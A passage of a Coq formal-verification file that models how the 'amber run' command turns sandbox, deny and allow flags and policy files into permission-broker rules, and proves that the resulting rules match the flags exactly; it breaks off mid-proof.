(* ===== verification/CommandLine.v ===== *)
(** * Permission flags and what [amber run] starts, [src/main.rs] and [src/task_runner.rs]

    How [--sandbox], [--deny-*], [--allow-*] and a policy file become broker rules,
    the file system, clock and import map they set up, the entry file's own
    grant, and the package script that [amber run] starts instead when the file does not
    exist.  The state is that of the parts it configures: [Permissions],
    [VirtualFs], [ImportMap].  Theorems: which requests pass after the flags,
    exactly; that a failure grants nothing; and what escapes the flags. *)

From S2P Require Import Prelude Json RustPath RawPath Permissions.
From S2P Require VirtualFs ImportMap.

(** ** Options and policy files *)

Record PermissionCliOptions := {
  policy : option path;
  deny_fs : bool; deny_net : bool; deny_env : bool; deny_run : bool;
  sandbox : bool;
  audit_log : option path;
  allow_read : list path; allow_write : list path;
  allow_net : list rstr; allow_listen : list rstr;
  allow_env : list rstr; allow_run : list rstr;
  seed : option Z;
  freeze_time : option rstr;
  import_map_path : option pathbuf;
  virtual_fs : bool; virtual_fs_strict : bool;
}.
Definition default_options : PermissionCliOptions := {|
  policy := None; deny_fs := false; deny_net := false; deny_env := false; deny_run := false;
  sandbox := false; audit_log := None; allow_read := []; allow_write := []; allow_net := [];
  allow_listen := []; allow_env := []; allow_run := []; seed := None; freeze_time := None;
  import_map_path := None; virtual_fs := false; virtual_fs_strict := false |}.

Record PermissionPolicyRules := {
  rule_deny_fs : bool; rule_deny_net : bool; rule_deny_env : bool; rule_deny_run : bool;
  rule_allow_read : list path; rule_allow_write : list path;
  rule_allow_net : list rstr; rule_allow_listen : list rstr;
  rule_allow_env : list rstr; rule_allow_run : list rstr;
}.
Definition default_rules : PermissionPolicyRules := {|
  rule_deny_fs := false; rule_deny_net := false; rule_deny_env := false; rule_deny_run := false;
  rule_allow_read := []; rule_allow_write := []; rule_allow_net := []; rule_allow_listen := [];
  rule_allow_env := []; rule_allow_run := [] |}.

(** The derived parsers: [serde(default)] fills in a missing field; an unknown one
    is skipped. *)
Definition json_bool (v : Json) : option bool := match v with JBool b => Some b | _ => None end.
Definition string_list (v : Json) : option (list rstr) :=
  match v with JArray l => mapM as_str l | _ => None end.
Definition path_list (v : Json) : option (list path) := l ← string_list v; Some (map components l).
Definition rules_of_json (doc : Json) : option PermissionPolicyRules :=
  f ← fields_of 10 doc;
  dfs ← field (Some false) json_bool f "deny_fs" 0;
  dnet ← field (Some false) json_bool f "deny_net" 1;
  denv ← field (Some false) json_bool f "deny_env" 2;
  drun ← field (Some false) json_bool f "deny_run" 3;
  ar ← field (Some []) path_list f "allow_read" 4;
  aw ← field (Some []) path_list f "allow_write" 5;
  an ← field (Some []) string_list f "allow_net" 6;
  al ← field (Some []) string_list f "allow_listen" 7;
  ae ← field (Some []) string_list f "allow_env" 8;
  ax ← field (Some []) string_list f "allow_run" 9;
  Some {| rule_deny_fs := dfs; rule_deny_net := dnet; rule_deny_env := denv; rule_deny_run := drun;
          rule_allow_read := ar; rule_allow_write := aw; rule_allow_net := an;
          rule_allow_listen := al; rule_allow_env := ae; rule_allow_run := ax |}.
Definition policy_of_json (doc : Json) : option PermissionPolicyRules :=
  f ← fields_of 1 doc; field (Some default_rules) rules_of_json f "permissions" 0.

(** ** The process *)

Record CliState := {
  perm : PermState;
  vfs : VirtualFs.Vfs;
  import_map : option ImportMap.ImportMap;
}.
(** What the process asks the system and the crates it uses. *)
Record CliHost := {
  files : Host;
  mkdirs : path → result unit rstr;
  opens : path → result unit rstr;
  rfc3339 : rstr → option Z; datetime : rstr → option Z; date : rstr → option Z;
  read_to_string : path → result rstr rstr;
  from_str : rstr → option Json;      (* serde_json on a text, all members of an object kept *)
  read_map : pathbuf → result rstr rstr;
  parse_map : rstr → result (gmap rstr rstr * gmap rstr (gmap rstr rstr)) rstr;
}.

(** A step of the set-up: it changes the state and may fail. *)
Definition C (A : Type) : Type := CliState → CliState * result A rstr.
#[export] Instance C_ret : MRet C := λ A a s, (s, Ok a).
#[export] Instance C_bind : MBind C := λ A B f m s,
  match m s with (s, Ok a) => f a s | (s, Err e) => (s, Err e) end.
Definition on_perm (f : PermState → PermState) : C unit := λ s,
  ({| perm := f (perm s); vfs := vfs s; import_map := import_map s |}, Ok tt).
Definition try_perm (f : PermState → PermState * result unit rstr) : C unit := λ s,
  ({| perm := (f (perm s)).1; vfs := vfs s; import_map := import_map s |}, (f (perm s)).2).
Definition on_vfs (f : VirtualFs.Vfs → VirtualFs.Vfs) : C unit := λ s,
  ({| perm := perm s; vfs := f (vfs s); import_map := import_map s |}, Ok tt).
Definition set_global_import_map (m : option ImportMap.ImportMap) : C unit := λ s,
  ({| perm := perm s; vfs := vfs s; import_map := m |}, Ok tt).
Definition pure_result {A} (r : result A rstr) : C A := λ s, (s, r).
Definition pass : C unit := mret tt.

Definition network_resource_from_cli_target (target : rstr) : ResourceId :=
  if Prelude.contains "://" target then Url target else Name target.
Definition resolve_policy_path (base_dir p : path) : path :=
  if is_absolute p then p else path_join base_dir p.

Section process.
Context (h : CliHost).

(** The denials and the allowances, the same code for the flags and the policy. *)
Definition deny_kinds (dfs dnet denv drun : bool) (st : PermState) : PermState :=
  let st := if dfs then deny (files h) (deny (files h) st FileSystem Read Any) FileSystem Write Any else st in
  let st := if dnet then deny (files h) (deny (files h) st Network Connect Any) Network Listen Any else st in
  let st := if denv then deny (files h) st Environment Read Any else st in
  if drun then deny (files h) st Process Execute Any else st.
Definition allow_each (k : PermissionKind) (a : PermissionAction) (l : list ResourceId) (st : PermState) :
    PermState :=
  fold_left (λ st r, allow (files h) st k a r) l st.
Definition allow_lists (read write : list path) (net listen env run : list rstr) (st : PermState) : PermState :=
  let st := allow_each FileSystem Read (Path <$> read) st in
  let st := allow_each FileSystem Write (Path <$> write) st in
  let st := allow_each Network Connect (network_resource_from_cli_target <$> net) st in
  let st := allow_each Network Listen (network_resource_from_cli_target <$> listen) st in
  let st := allow_each Environment Read (Name <$> env) st in
  allow_each Process Execute (Name <$> run) st.

Definition apply_permission_policy_rules (rules : PermissionPolicyRules) (base_dir : path)
    (st : PermState) : PermState :=
  let st := deny_kinds (rule_deny_fs rules) (rule_deny_net rules) (rule_deny_env rules)
              (rule_deny_run rules) st in
  allow_lists (resolve_policy_path base_dir <$> rule_allow_read rules)
    (resolve_policy_path base_dir <$> rule_allow_write rules) (rule_allow_net rules)
    (rule_allow_listen rules) (rule_allow_env rules) (rule_allow_run rules) st.
Definition parse_permission_policy (contents : rstr) : result PermissionPolicyRules rstr :=
  match from_str h contents ≫= policy_of_json with
  | Some rules => Ok rules
  | None => Err ("Failed to parse permission policy " : rstr)
  end.
Definition apply_permission_policy_file (policy_path : path) : C unit :=
  contents ← pure_result (match read_to_string h policy_path with
    | Ok text => Ok text | Err e => Err ("Failed to read permission policy " ++ e) end);
  rules ← pure_result (parse_permission_policy contents);
  on_perm (apply_permission_policy_rules rules ((parent policy_path) .unwrap_or (components "."))).

Definition apply_permission_cli_options (o : PermissionCliOptions) : C unit :=
  _ ← on_perm (λ p, with_broker p broker_default);
  _ ← on_perm reset_runtime_permission_state;
  _ ← on_perm (λ p, set_sandbox_strict_env p (sandbox o));
  _ ← match audit_log o with
      | Some f => try_perm (λ p, set_audit_log_path (mkdirs h) (opens h) p (Some f))
      | None => pass
      end;
  _ ← on_perm (λ p, set_deterministic_seed p (seed o));
  _ ← match freeze_time o with
      | Some text =>
          t ← pure_result (parse_time_spec (rfc3339 h) (datetime h) (date h) text);
          on_perm (λ p, set_frozen_time_ms p (Some t))
      | None => pass
      end;
  _ ← match import_map_path o with
      | Some map_path =>
          m ← pure_result (ImportMap.load (read_map h map_path) (parse_map h) map_path);
          set_global_import_map (Some m)
      | None => set_global_import_map None
      end;
  _ ← (if virtual_fs o then on_vfs (λ v, VirtualFs.enable v (negb (virtual_fs_strict o)))
       else on_vfs VirtualFs.disable);
  _ ← (if sandbox o then on_perm (deny_all (files h)) else pass);
  _ ← match policy o with Some policy_path => apply_permission_policy_file policy_path | None => pass end;
  _ ← on_perm (deny_kinds (deny_fs o) (deny_net o) (deny_env o) (deny_run o));
  on_perm (allow_lists (allow_read o) (allow_write o) (allow_net o) (allow_listen o)
             (allow_env o) (allow_run o)).

Definition allow_sandbox_entry_file (sandboxed : bool) (file : path) : C unit :=
  if sandboxed then on_perm (λ st, allow (files h) st FileSystem Read (Path file)) else pass.
(** [agent::tools_json_path] *)
Definition tools_json_path (entry : path) : path :=
  path_join ((parent entry) .unwrap_or (components ".")) [Normal "tools.json"].
Definition allow_sandbox_export_manifest (sandboxed : bool) (file : path) : C unit :=
  if negb sandboxed then pass
  else let manifest := tools_json_path file in
       if host_is_file (files h) manifest
       then on_perm (λ st, allow (files h) st FileSystem Read (Path manifest)) else pass.

(** ** Package scripts, [src/task_runner.rs] *)

(** [PathBuf::pop] *)
Definition pop (p : path) : option path := parent p.
Fixpoint find_upward (fuel : nat) (current : path) : option path :=
  let candidate := path_join current [Normal "package.json"] in
  if host_is_file (files h) candidate then Some candidate
  else match fuel, pop current with
       | S fuel, Some p => find_upward fuel p
       | _, _ => None
       end.
Definition find_package_json (start_dir : path) : option path :=
  current ← (if host_is_file (files h) start_dir then parent start_dir else Some start_dir);
  find_upward (length current) current.
Definition load_scripts (package_json_path : path) : result (gmap rstr rstr) rstr :=
  match read_to_string h package_json_path with
  | Err e => Err ("Failed to read " ++ e)
  | Ok content =>
      match value_of <$> from_str h content with
      | None => Err ("Failed to parse " : rstr)
      | Some json =>
          Ok match json_get json "scripts" ≫= as_object with
             | Some scripts => list_to_map (rev (omap (λ kv, (λ cmd, (kv.1, cmd)) <$> as_str kv.2) scripts))
             | None => ∅
             end
      end
  end.
(** What [sh -c] is given, and where. *)
Definition run_script (start_dir : path) (script_name : rstr) (extra_args : list rstr) :
    result (path * rstr) rstr :=
  match find_package_json start_dir with
  | None => Err ("No package.json found in " : rstr)
  | Some package_json =>
      scripts ← load_scripts package_json;
      match scripts !! script_name with
      | None => Err ("Script '" ++ script_name)
      | Some raw_cmd =>
          let full_cmd := match extra_args with
                          | [] => raw_cmd
                          | _ => raw_cmd ++ " " ++ join " " extra_args
                          end in
          Ok ((parent package_json) .unwrap_or (components "."), full_cmd)
      end
  end.

(** [amber run file args] up to the entry: a package script runs in a shell and is
    all that happens ([Some]); otherwise the flags are applied and the entry
    file can be read ([None]). *)
Definition run_command (o : PermissionCliOptions) (file : rstr) (args : list rstr) :
    C (option (path * rstr)) :=
  let script :=
    if host_exists (files h) (components file) then None
    else pkg_path ← find_package_json (components ".");
         match load_scripts pkg_path with
         | Ok scripts => if bool_decide (is_Some (scripts !! file)) then Some file else None
         | Err _ => None
         end in
  match script with
  | Some script_name =>
      shell ← pure_result (run_script (components ".") script_name args); mret (Some shell)
  | None =>
      _ ← apply_permission_cli_options o;
      _ ← allow_sandbox_entry_file (sandbox o) (components file);
      mret None
  end.
End process.

(** ** What the flags come to *)

(** The rules of a broker that was only told to deny everything of a kind and
    action ([D]) and to allow particular resources ([G]). *)
Record configured (h : Host) (st : PermState) (D : PermissionKind → PermissionAction → bool)
    (G : PermissionKind → PermissionAction → list ResourceId) : Prop := {
  conf_deny k a r :
    {| kind := k; action := a; resource := r |} ∈ deny_rules (broker st) ↔ r = Any ∧ D k a = true;
  conf_allow k a r :
    {| kind := k; action := a; resource := r |} ∈ allow_rules (broker st) ↔
      ∃ g, g ∈ G k a ∧ r = normalize_resource h g;
  conf_any k a : Any ∉ G k a;
  conf_flag : has_restrictions st = true ↔ ∃ k a, D k a = true;
}.
Definition deny_none : PermissionKind → PermissionAction → bool := λ _ _, false.
Definition kinds (dfs dnet denv drun : bool) (k : PermissionKind) (a : PermissionAction) : bool :=
  match k, a with
  | FileSystem, (Read | Write) => dfs
  | Network, (Connect | Listen) => dnet
  | Environment, Read => denv
  | Process, Execute => drun
  | _, _ => false
  end.
Definition lists (read write : list path) (net listen env run : list rstr)
    (k : PermissionKind) (a : PermissionAction) : list ResourceId :=
  match k, a with
  | FileSystem, Read => Path <$> read
  | FileSystem, Write => Path <$> write
  | Network, Connect => network_resource_from_cli_target <$> net
  | Network, Listen => network_resource_from_cli_target <$> listen
  | Environment, Read => Name <$> env
  | Process, Execute => Name <$> run
  | _, _ => []
  end.

Section configured.
Context (h : CliHost).
#[local] Notation configured := (configured (files h)).

Lemma normalize_any g : normalize_resource (files h) g = Any → g = Any.
Proof. by destruct g. Qed.

Lemma deny_configured st D G k0 a0 :
  configured st D G →
  configured (deny (files h) st k0 a0 Any) (λ k a, D k a || bool_decide (k = k0 ∧ a = a0)) G.
Proof.
  intros [Hd Ha Hany Hf]. split.
  - intros k a r. simpl. rewrite elem_of_union, elem_of_singleton, Hd, orb_true_iff, bool_decide_eq_true.
    naive_solver.
  - intros k a r. simpl. rewrite elem_of_difference, elem_of_singleton, Ha. split; [naive_solver|].
    intros (g & Hg & ->). split; [eauto|]. intros [= -> -> Hn]. apply (Hany k0 a0).
    by rewrite (normalize_any _ Hn) in Hg.
  - done.
  - split; [|done]. intros _. exists k0, a0. by rewrite bool_decide_eq_true_2, orb_true_r.
Qed.
Lemma configured_ext st D D' G G' :
  (∀ k a, D k a = D' k a) → (∀ k a, G k a = G' k a) → configured st D G → configured st D' G'.
Proof.
  intros HD HG [Hd Ha Hany Hf]. split.
  - intros k a r. by rewrite Hd, HD.
  - intros k a r. by rewrite Ha, HG.
  - intros k a. rewrite <-HG. apply Hany.
  - rewrite Hf. by setoid_rewrite HD.
Qed.
Lemma deny_kinds_configured dfs dnet denv drun st D G :
  configured st D G →
  configured (deny_kinds h dfs dnet denv drun st) (λ k a, D k a || kinds dfs dnet denv drun k a) G.
Proof.
  intros H. unfold deny_kinds.
  destruct dfs, dnet, denv, drun; cbn zeta;
    (eapply (configured_ext _ _ _ G G); [|done|repeat apply deny_configured; exact H]);
    intros [] []; simpl; by rewrite ?orb_false_r, ?orb_true_r.
Qed.
Lemma deny_all_configured st D G :
  configured st D G → configured (deny_all (files h) st) (λ k a, D k a || kinds true true true true k a) G.
Proof.
  intros H. unfold deny_all. cbn zeta.
  eapply (configured_ext _ _ _ G G); [|done|repeat apply deny_configured; exact H].
  intros [] []; simpl; by rewrite ?orb_false_r, ?orb_true_r.
Qed.

Lemma allow_each_configured k0 a0 l st D G :
  Any ∉ l → configured st D G →
  configured (allow_each h k0 a0 l st) D (λ k a, G k a ++ if bool_decide (k = k0 ∧ a = a0) then l else []).
Proof.
  revert st G. induction l as [|g l IH]; intros st G Hl H.
  - eapply configured_ext; [done| |exact H]. intros k a. by destruct (bool_decide _); rewrite app_nil_r.
  - cbn [allow_each fold_left]. fold (allow_each h k0 a0 l (allow (files h) st k0 a0 g)).
    apply not_elem_of_cons in Hl as [Hg Hl].
    assert (configured (allow (files h) st k0 a0 g) D
      (λ k a, G k a ++ if bool_decide (k = k0 ∧ a = a0) then [g] else [])) as H1.
    { destruct H as [Hd Ha Hany Hf]. split.
      - intros k a r. simpl. rewrite elem_of_difference, elem_of_singleton, Hd.
        split; [naive_solver|]. intros [-> HD]. split; [done|]. intros [= -> -> Hn].
        by apply Hg, eq_sym, normalize_any.
      - intros k a r. simpl. rewrite elem_of_union, elem_of_singleton, Ha. case_bool_decide as E.
        + destruct E as [-> ->]. setoid_rewrite elem_of_app. setoid_rewrite list_elem_of_singleton. naive_solver.
        + rewrite app_nil_r. naive_solver.
      - intros k a [Hin|Hin]%elem_of_app; [by apply (Hany k a)|]. case_bool_decide; set_solver.
      - exact Hf. }
    eapply configured_ext; [done| |apply (IH _ _ Hl H1)].
    intros k a. simpl. rewrite <-app_assoc. by destruct (bool_decide _).
Qed.
Lemma target_not_any t : network_resource_from_cli_target t ≠ Any.
Proof. unfold network_resource_from_cli_target. by destruct (Prelude.contains _ _). Qed.
Lemma allow_lists_configured read write net listen env run st D G :
  configured st D G →
  configured (allow_lists h read write net listen env run st) D
    (λ k a, G k a ++ lists read write net listen env run k a).
Proof.
  intros H. unfold allow_lists. cbn zeta.
  eapply configured_ext; [done| |repeat (apply allow_each_configured; [|]); [..|exact H]];
    [intros [] []; simpl; by rewrite ?app_nil_r| |..];
    intros (x & Hx & _)%list_elem_of_fmap; try discriminate; by apply (target_not_any x).
Qed.
End configured.

(** *** Running the set-up *)

Lemma C_bind_ok {A B} (m : C A) (f : A → C B) s s' b :
  (m ≫= f) s = (s', Ok b) → ∃ s1 a, m s = (s1, Ok a) ∧ f a s1 = (s', Ok b).
Proof.
  unfold mbind, C_bind. intros H. destruct (m s) as [s1 [a|e]]; [eauto|discriminate].
Qed.
Lemma C_bind_err {A B} (m : C A) (f : A → C B) s s' e :
  (m ≫= f) s = (s', Err e) → m s = (s', Err e) ∨ ∃ s1 a, m s = (s1, Ok a) ∧ f a s1 = (s', Err e).
Proof.
  unfold mbind, C_bind. intros H. destruct (m s) as [s1 [a|e']]; [eauto|]. left. congruence.
Qed.

(** The rules of the policy file, and the directory its paths start from. *)
Definition policy_rules (h : CliHost) (o : PermissionCliOptions) : PermissionPolicyRules :=
  match policy o with
  | Some p => match read_to_string h p with
              | Ok text => match parse_permission_policy h text with Ok r => r | Err _ => default_rules end
              | Err _ => default_rules
              end
  | None => default_rules
  end.
Definition policy_base (o : PermissionCliOptions) : path :=
  match policy o with Some p => (parent p) .unwrap_or (components ".") | None => [] end.
(** What is denied as a whole, and what is allowed by name. *)
Definition denied (h : CliHost) (o : PermissionCliOptions) : PermissionKind → PermissionAction → bool :=
  let r := policy_rules h o in
  kinds (sandbox o || rule_deny_fs r || deny_fs o) (sandbox o || rule_deny_net r || deny_net o)
        (sandbox o || rule_deny_env r || deny_env o) (sandbox o || rule_deny_run r || deny_run o).
Definition granted (h : CliHost) (o : PermissionCliOptions) (k : PermissionKind) (a : PermissionAction) :
    list ResourceId :=
  let r := policy_rules h o in
  lists (resolve_policy_path (policy_base o) <$> rule_allow_read r)
    (resolve_policy_path (policy_base o) <$> rule_allow_write r) (rule_allow_net r)
    (rule_allow_listen r) (rule_allow_env r) (rule_allow_run r) k a
  ++ lists (allow_read o) (allow_write o) (allow_net o) (allow_listen o) (allow_env o) (allow_run o) k a.

Lemma fresh_configured h p b :
  configured h (set_sandbox_strict_env (reset_runtime_permission_state (with_broker p broker_default)) b)
    deny_none (λ _ _, []).
Proof. split; simpl; unfold deny_none; try set_solver. Qed.

(** What the steps before the rules keep. *)
Definition same_rules (s s' : CliState) : Prop :=
  broker (perm s') = broker (perm s) ∧ has_restrictions (perm s') = has_restrictions (perm s).
#[export] Instance same_rules_preorder : PreOrder same_rules.
Proof. split; [done|]. intros a b c [H1 H2] [H3 H4]. split; congruence. Qed.
Definition quiet {A} (m : C A) : Prop := ∀ s s' r, m s = (s', r) → same_rules s s'.
Lemma quiet_bind {A B} (m : C A) (f : A → C B) : quiet m → (∀ a, quiet (f a)) → quiet (m ≫= f).
Proof.
  intros Hm Hf s s' r. unfold mbind, C_bind. destruct (m s) as [s1 [a|e]] eqn:E; intros H.
  - etrans; [by eapply Hm|by eapply Hf].
  - injection H as <- <-. by eapply Hm.
Qed.
Lemma quiet_perm f : (∀ p, broker (f p) = broker p ∧ has_restrictions (f p) = has_restrictions p) → quiet (on_perm f).
Proof. intros H s s' r [= <- <-]. apply H. Qed.
Lemma quiet_pure {A} (r : result A rstr) : quiet (pure_result r).
Proof. by intros s s' r' [= <- <-]. Qed.
Lemma quiet_pass : quiet pass.
Proof. by intros s s' r' [= <- <-]. Qed.
Lemma quiet_map m : quiet (set_global_import_map m).
Proof. by intros s s' r [= <- <-]. Qed.
Lemma quiet_vfs f : quiet (on_vfs f).
Proof. by intros s s' r [= <- <-]. Qed.
Lemma quiet_audit h f : quiet (try_perm (λ p, set_audit_log_path (mkdirs h) (opens h) p (Some f))).
Proof.
  intros s s' r [= <- <-]. exact (set_audit_broker (mkdirs h) (opens h) (perm s) (Some f)).
Qed.
#[local] Hint Resolve quiet_bind quiet_perm quiet_pure quiet_pass quiet_map quiet_vfs quiet_audit : quiet.

Lemma configured_same h s s' D G : same_rules s s' → configured h (perm s) D G → configured h (perm s') D G.
Proof.
  intros [Hb Hr] [Hd Ha Hany Hf]. split; rewrite ?Hb, ?Hr; try done; intros; rewrite Hb; auto.
Qed.
(** Everything between the reset and the rules. *)
Definition surroundings (h : CliHost) (o : PermissionCliOptions) : C unit :=
  _ ← match audit_log o with
      | Some f => try_perm (λ p, set_audit_log_path (mkdirs h) (opens h) p (Some f))
      | None => pass
      end;
  _ ← on_perm (λ p, set_deterministic_seed p (seed o));
  _ ← match freeze_time o with
      | Some text =>
          t ← pure_result (parse_time_spec (rfc3339 h) (datetime h) (date h) text);
          on_perm (λ p, set_frozen_time_ms p (Some t))
      | None => pass
      end;
  _ ← match import_map_path o with
      | Some map_path =>
          m ← pure_result (ImportMap.load (read_map h map_path) (parse_map h) map_path);
          set_global_import_map (Some m)
      | None => set_global_import_map None
      end;
  if virtual_fs o then on_vfs (λ v, VirtualFs.enable v (negb (virtual_fs_strict o)))
  else on_vfs VirtualFs.disable.
Definition fresh (o : PermissionCliOptions) (s : CliState) : CliState := {|
  perm := set_sandbox_strict_env (reset_runtime_permission_state (with_broker (perm s) broker_default)) (sandbox o);
  vfs := vfs s; import_map := import_map s |}.
Definition rules_of (h : CliHost) (o : PermissionCliOptions) : C unit :=
  _ ← (if sandbox o then on_perm (deny_all (files h)) else pass);
  _ ← match policy o with Some policy_path => apply_permission_policy_file h policy_path | None => pass end;
  _ ← on_perm (deny_kinds h (deny_fs o) (deny_net o) (deny_env o) (deny_run o));
  on_perm (allow_lists h (allow_read o) (allow_write o) (allow_net o) (allow_listen o)
             (allow_env o) (allow_run o)).
Lemma bind_assoc {A B D} (m : C A) (f : A → C B) (g : B → C D) s :
  ((m ≫= f) ≫= g) s = (m ≫= λ a, f a ≫= g) s.
Proof. unfold mbind, C_bind. by destruct (m s) as [s1 [a|e]]. Qed.
Lemma bind_ext {A B} (m : C A) (f g : A → C B) s : (∀ a s, f a s = g a s) → (m ≫= f) s = (m ≫= g) s.
Proof. intros H. unfold mbind, C_bind. destruct (m s) as [s1 [a|e]]; [apply H|done]. Qed.
Lemma apply_parts h o s :
  apply_permission_cli_options h o s = (_ ← surroundings h o; rules_of h o) (fresh o s).
Proof.
  unfold apply_permission_cli_options, surroundings. rewrite !bind_assoc.
  unfold mbind at 1 2 3, C_bind at 1 2 3. cbn [on_perm].
  fold (fresh o s). repeat (rewrite ?bind_assoc; apply bind_ext; intros ? ?). done.
Qed.
Lemma surroundings_quiet h o : quiet (surroundings h o).
Proof.
  unfold surroundings. repeat (apply quiet_bind; [|intros ?]);
    repeat case_match; auto 6 with quiet.
Qed.

Lemma policy_file_ok h o p s s' D G :
  policy o = Some p → apply_permission_policy_file h p s = (s', Ok tt) → configured (files h) (perm s) D G →
  let r := policy_rules h o in
  configured (files h) (perm s')
    (λ k a, D k a || kinds (rule_deny_fs r) (rule_deny_net r) (rule_deny_env r) (rule_deny_run r) k a)
    (λ k a, G k a ++ lists (resolve_policy_path (policy_base o) <$> rule_allow_read r)
                       (resolve_policy_path (policy_base o) <$> rule_allow_write r) (rule_allow_net r)
                       (rule_allow_listen r) (rule_allow_env r) (rule_allow_run r) k a).
Proof.
  intros Hp H HC. unfold apply_permission_policy_file in H.
  apply C_bind_ok in H as (s1 & text & H1 & H). unfold pure_result in H1. injection H1 as <- H1.
  apply C_bind_ok in H as (s2 & rules & H2 & H). injection H2 as <- H2. injection H as <-.
  unfold policy_rules, policy_base. rewrite Hp.
  destruct (read_to_string h p) as [t|]; [|discriminate H1]. injection H1 as ->. rewrite H2.
  cbn [perm]. unfold apply_permission_policy_rules.
  by apply allow_lists_configured, deny_kinds_configured.
Qed.
Lemma rules_of_ok h o s s' :
  rules_of h o s = (s', Ok tt) → configured (files h) (perm s) deny_none (λ _ _, []) →
  configured (files h) (perm s') (denied h o) (granted h o).
Proof.
  intros H HC. unfold rules_of in H.
  apply C_bind_ok in H as (s1 & [] & H1 & H).
  assert (configured (files h) (perm s1)
    (λ k a, kinds (sandbox o) (sandbox o) (sandbox o) (sandbox o) k a) (λ _ _, [])) as HC1.
  { destruct (sandbox o); injection H1 as <-.
    - eapply configured_ext, deny_all_configured, HC; [|done]. by intros [] [].
    - eapply configured_ext, HC; [|done]. by intros [] []. }
  apply C_bind_ok in H as (s2 & [] & H2 & H).
  apply C_bind_ok in H as (s3 & [] & H3 & H). injection H3 as <-. injection H as <-. cbn [perm].
  eapply configured_ext; [| |apply allow_lists_configured, deny_kinds_configured].
  3:{ destruct (policy o) as [p|] eqn:Hp.
      - exact (policy_file_ok h o p s1 s2 _ _ Hp H2 HC1).
      - injection H2 as <-. eapply configured_ext, HC1; intros [] []; unfold policy_rules; rewrite Hp;
          simpl; by rewrite ?orb_false_r. }
  all: intros [] []; unfold denied, granted, policy_rules; destruct (policy o); simpl;
    rewrite ?orb_false_r; try done; by destruct (sandbox o).
Qed.

(** The flags and the policy file come to exactly these rules. *)
Lemma apply_configured h o s s' :
  apply_permission_cli_options h o s = (s', Ok tt) →
  configured (files h) (perm s') (denied h o) (granted h o).
Proof.
  rewrite apply_parts. intros (s1 & [] & H1 & H)%C_bind_ok.
  eapply rules_of_ok; [exact H|]. eapply configured_same; [by eapply surroundings_quiet|].
  apply fresh_configured.
Qed.

(** *** From rules to decisions *)

(** A grant covers a request: a path everything below it, a host every address
    on it, and a name or an address itself. *)
Definition covers (h : Host) (url_host : rstr → option rstr) (k : PermissionKind) (a : PermissionAction)
    (g r : ResourceId) : Prop :=
  match g, r with
  | Path root, Path p => normalize_path h root `prefix_of` normalize_path h p
  | Name n, Name m => n = m
  | Url u, Url v => u = v
  | Name n, Url u => is_network_url k a r = true ∧ url_host u = Some n
  | _, _ => False
  end.
Lemma covers_exact h url_host k a g r :
  g ≠ Any → normalize_resource h r = normalize_resource h g → covers h url_host k a g r.
Proof. destruct g, r; simpl; try done; intros _ [= H]; subst; done || by rewrite H. Qed.

Section decisions.
Context (h : Host) (url_host : rstr → option rstr) (st : PermState).
Context (D : PermissionKind → PermissionAction → bool) (G : PermissionKind → PermissionAction → list ResourceId).
Context (HC : configured h st D G).
#[local] Notation b := (broker st).

Lemma conf_deny_false k a r : D k a = false → {| kind := k; action := a; resource := r |} ∉ deny_rules b.
Proof using HC. intros HD [_ H]%(conf_deny _ _ _ _ HC). congruence. Qed.
Lemma conf_deny_named k a r : r ≠ Any → {| kind := k; action := a; resource := r |} ∉ deny_rules b.
Proof using HC. by intros Hr [? _]%(conf_deny _ _ _ _ HC). Qed.
Lemma conf_deny_path k a r : path_rule_matches (deny_rules b) k a r = false.
Proof using HC.
  apply not_true_iff_false. rewrite path_rule_matches_spec. intros (q & p & _ & _ & H).
  by apply (conf_deny_named k a (Path p)) in H.
Qed.
Lemma host_rule_name k a r rule :
  network_host_rule url_host k a r = Some rule →
  ∃ u n, r = Url u ∧ url_host u = Some n ∧ rule = {| kind := k; action := a; resource := Name n |}.
Proof using.
  destruct r as [| | |u]; try done. simpl. destruct (url_host u) as [n|] eqn:E; [|done].
  intros [= <-]. eauto.
Qed.
Lemma conf_open k a r : D k a = false → decide url_host b k a r = Allow.
Proof using HC.
  intros HD. unfold decide. rewrite conf_deny_path.
  rewrite (bool_decide_eq_false_2 _ (conf_deny_false k a r HD)).
  rewrite (bool_decide_eq_false_2 _ (conf_deny_false k a Any HD)).
  cbn [orb]. destruct (bool_decide (_ ∈ allow_rules b)); [done|].
  destruct (is_network_url k a r); [destruct (network_host_rule url_host k a r) as [rule|] eqn:E|].
  - apply host_rule_name in E as (u & n & -> & _ & ->).
    rewrite bool_decide_eq_false_2 by (by apply conf_deny_named). by repeat (destruct (bool_decide _) || destruct (path_rule_matches _ _ _ _)).
  - by repeat (destruct (bool_decide _) || destruct (path_rule_matches _ _ _ _)).
  - by repeat (destruct (bool_decide _) || destruct (path_rule_matches _ _ _ _)).
Qed.
Lemma conf_path k a r :
  path_rule_matches (allow_rules b) k a (normalize_resource h r) = true ↔
  ∃ root p, r = Path p ∧ Path root ∈ G k a ∧ normalize_path h root `prefix_of` normalize_path h p.
Proof using HC.
  rewrite path_rule_matches_spec. setoid_rewrite (conf_allow _ _ _ _ HC). split.
  - intros (q & p & Hr & Hp & g & Hg & Hn). destruct g as [|root| |]; try discriminate Hn.
    destruct r as [|p0| |]; try discriminate Hr. injection Hn as ->. injection Hr as <-. eauto 10.
  - intros (root & p & -> & Hg & Hp). exists (normalize_path h p), (normalize_path h root).
    repeat split; [done|]. by exists (Path root).
Qed.

(** A request no exact rule and no host rule allows. *)
Lemma conf_tail k a r :
  D k a = true → {| kind := k; action := a; resource := normalize_resource h r |} ∉ allow_rules b →
  (∀ u n, r = Url u → is_network_url k a r = true → url_host u = Some n → Name n ∉ G k a) →
  (if path_rule_matches (allow_rules b) k a (normalize_resource h r) then Allow else Deny) = Allow ↔
  ∃ g, g ∈ G k a ∧ covers h url_host k a g r.
Proof using HC.
  intros HD Hexact Hhost. destruct (path_rule_matches _ _ _ _) eqn:E.
  - split; [|done]. intros _. apply conf_path in E as (root & p & -> & Hg & Hp). by exists (Path root).
  - split; [done|]. intros (g & Hg & Hc). exfalso. revert Hc. apply not_true_iff_false in E.
    assert (normalize_resource h r ≠ normalize_resource h g) as Hne.
    { intros Hn. apply Hexact, (conf_allow _ _ _ _ HC). by exists g. }
    destruct g as [|root|m|v], r as [|p|m'|v']; simpl; try done.
    + intros Hp. apply E, conf_path. eauto 10.
    + intros ->. by apply Hne.
    + intros [Hnet Hu]. by eapply Hhost.
    + intros ->. by apply Hne.
Qed.
Lemma conf_closed k a r :
  D k a = true →
  decide url_host b k a (normalize_resource h r) = Allow ↔ ∃ g, g ∈ G k a ∧ covers h url_host k a g r.
Proof using HC.
  intros HD. unfold decide. rewrite conf_deny_path, orb_false_r.
